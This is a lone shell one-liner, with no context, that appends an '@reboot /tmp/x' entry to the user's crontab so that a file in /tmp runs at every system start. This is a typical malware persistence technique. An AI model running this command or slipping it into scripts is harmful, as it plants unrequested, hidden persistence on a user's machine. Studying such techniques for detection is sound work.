(crontab -l; echo "@reboot /tmp/x") | crontab -
